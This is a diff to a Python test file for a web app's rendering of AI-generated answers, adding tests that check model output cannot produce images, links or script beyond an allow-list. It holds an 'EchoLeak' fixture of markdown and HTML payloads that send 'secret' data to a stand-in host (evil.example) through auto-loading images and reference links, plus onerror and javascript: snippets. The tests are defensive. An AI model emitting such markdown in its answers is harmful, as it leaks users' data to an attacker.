@@ -1,8 +1,10 @@
 """Text of documents and models as HTML: marked where it is cited or searched for, and harmless."""
 
+import re
 from html import unescape
 
 import pytest
+from django.conf import settings
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -76,6 +78,45 @@ def test_html_in_a_document_is_shown_as_text(text: str) -> None:
 def test_an_answer_has_no_link_image_or_html_of_its_own(text: str) -> None:
     html = render_answer(text, {})
     assert not any(tag in html for tag in ("<a", "<img", "<script"))
+
+
+ECHOLEAK = """\
+Here you are [1].
+
+![loading][image]
+
+[See the policy][link] or ![x](https://evil.example/?q=secret "t")
+
+[image]: https://evil.example/pixel?data=secret
+[link]: <https://evil.example/?data=secret>
+
+<img src="https://evil.example/?q=secret" onerror="alert(1)"> <javascript:alert(1)> https://evil.example
+"""
+"""CVE-2025-32711: links by reference and an image that loads by itself; with what AnythingLLM's stream let through
+(CVE-2026-32626)."""
+ALLOWED = re.compile(
+    r"</?(?:p|br|strong|em|h4|[uo]l|li|blockquote|code|pre|hr|table|thead|tbody|tr|t[hd])(?: ?/)?>"
+    r'|<a class="cite" href="/documents/x/" data-marker="1">|<span class="hidden">|</span>|</a>'
+)
+
+
+@pytest.mark.parametrize("length", range(0, len(ECHOLEAK) + 1, 7))
+def test_no_beginning_of_an_attack_renders_as_more_than_the_allowed_tags(length: int) -> None:
+    html = render_answer(ECHOLEAK[:length], {1: "/documents/x/"})
+    assert "<" not in ALLOWED.sub("", html)
+
+
+@given(st.text(alphabet="![]()<>:\"' \nhtps/evil.a1`*_&;#"))
+def test_nothing_that_a_model_writes_renders_as_more_than_the_allowed_tags(text: str) -> None:
+    assert "<" not in ALLOWED.sub("", render_answer(text, {1: "/documents/x/"}))
+
+
+def test_the_page_shows_tokens_as_plain_text_while_they_come() -> None:
+    """Text cannot load an image or hold a link, whatever it says so far."""
+    script = (settings.BASE_DIR / "kb/static/strongroom.js").read_text()
+    handler = script[script.index('addEventListener("token"') :].split("});")[0]
+    assert "text.textContent += event.data" in handler
+    assert "innerHTML" not in handler
 
 
 def test_a_marker_becomes_a_link_to_its_source_and_an_unknown_one_goes() -> None:
